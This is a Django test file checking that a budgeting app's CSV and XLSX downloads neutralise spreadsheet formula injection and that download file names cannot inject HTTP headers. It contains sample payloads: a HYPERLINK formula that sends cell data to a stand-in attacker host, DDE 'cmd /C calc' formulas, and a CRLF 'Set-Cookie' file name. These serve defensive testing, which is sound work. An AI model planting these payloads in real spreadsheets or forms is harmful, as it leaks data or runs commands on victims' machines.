"""Every CSV and XLSX download neutralises formula injection: formula-like text typed into any form comes
out prefixed with an apostrophe, while numbers (negative money too) stay numbers in XLSX cells."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from django.urls import reverse
from openpyxl import load_workbook

from budgets.forms import LAYOUTS
from tests.security.forms import forms_in
from tests.security.test_xss import NOT_POSTED, _html_pages, _role_for, _url_name
from tests.yjplan.test_authorization_matrix import PARTNERSHIP_URLS, _url
from yjplan.exports import FORMULA_STARTS, Sheet, csv_response, safe_cell, xlsx_bytes, xlsx_response
from yjplan.permissions import Role

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=DDE("cmd";"/C calc";"!A0")',
]
DOWNLOAD_TYPES = ("text/csv", "application/vnd.openxmlformats")


def _cells(response) -> list:
    if response["Content-Type"].startswith("text/csv"):
        return [c for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for c in row]
    book = load_workbook(io.BytesIO(response.content))
    return [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _downloads(world):
    """Every download the matrix lists, in each of its formats and layouts."""
    for name, expect in sorted(PARTNERSHIP_URLS.items()):
        if not expect.content_type.startswith(DOWNLOAD_TYPES):
            continue
        if "fmt" in expect.kwargs:
            for layout in LAYOUTS:
                for fmt in ("xlsx", "csv"):
                    kwargs = {**expect.kwargs, "layout": layout, "fmt": fmt}
                    yield f"{name} {layout} {fmt}", _url(name, type(expect)(expect.allowed, kwargs=kwargs), world), {}
        else:
            url = _url(name, expect, world)
            yield f"{name} xlsx", url, {}
            yield f"{name} csv", url, {"format": "csv"}


def test_formula_text_typed_anywhere_is_neutralised_in_every_download(world, client):
    done = set()
    # the apps that offer a download: their forms hold what the downloads show
    apps = {name.split(":")[0] for name, e in PARTNERSHIP_URLS.items() if e.content_type.startswith(DOWNLOAD_TYPES)}
    for name, expect in _html_pages():
        if name.split(":")[0] not in apps:
            continue
        client.force_login(world["members"][_role_for(expect)].user)
        url = _url(name, expect, world)
        for form in forms_in(client.get(url, expect.data).content.decode(), url):
            target = _url_name(form.action)
            if form.method != "post" or form.signature in done or target is None or target in NOT_POSTED:
                continue
            done.add(form.signature)
            fields = form.text_fields()
            client.post(form.action, form.data({f.name: FORMULAS[i % len(FORMULAS)] for i, f in enumerate(fields)}))
    from tests.boards.authz import _board  # imported here: the matrix imports the authz modules itself

    board = _board(world)  # the summary download needs a board (the walk may not have made one)
    checked, formula_like = 0, 0
    client.force_login(world["members"][Role.MANAGER].user)
    for label, url, params in _downloads(world):
        response = client.get(url, params)
        assert response.status_code == 200, label
        assert response["Content-Type"].startswith(DOWNLOAD_TYPES), label
        for value in _cells(response):
            if isinstance(value, str):
                assert not value.startswith(FORMULA_STARTS), f"{label}: {value!r}"
                formula_like += value.startswith("'") and value[1:2] in {s[0] for s in FORMULA_STARTS}
            checked += 1
    assert checked > 50 and formula_like >= 5, (checked, formula_like)
    assert board.pk
    print(f"\n{len(list(_downloads(world)))} downloads, {checked} cells, {formula_like} neutralised")


def test_negative_money_stays_a_number_and_only_text_is_neutralised():
    sheet = Sheet(
        "Budget",
        ["Agency", "Change"],
        [["-Police", Decimal("-1200.50")], ["=1+1", -3], ["Health", 4.5]],
        money_columns={1},
    )
    book = load_workbook(io.BytesIO(xlsx_bytes([sheet])))
    rows = [[c.value for c in row] for row in book.active.iter_rows(min_row=2)]
    assert rows == [["'-Police", -1200.5], ["'=1+1", -3], ["Health", 4.5]]
    assert [c.data_type for c in book.active[2]] == ["s", "n"]
    assert safe_cell(Decimal("-5")) == Decimal("-5") and safe_cell(-5) == -5
    assert (
        csv_response("a.csv", ["A"], [[Decimal("-5.00")], ["-5"]]).content.decode("utf-8-sig")
        == "A\r\n-5.00\r\n'-5\r\n"
    )


def test_download_file_names_cannot_break_the_header():
    """A name people typed (a board's, for its summary) with quotes, a line break or non-Latin letters."""
    for make in (lambda n: csv_response(n, ["A"], []), lambda n: xlsx_response(n, [Sheet("S", ["A"], [])])):
        response = make('Board "North"\r\nSet-Cookie: x=1 Łódź.csv')
        header = response["Content-Disposition"]
        assert "\n" not in header and "\r" not in header and header.startswith("attachment;")
    assert reverse("healthz")
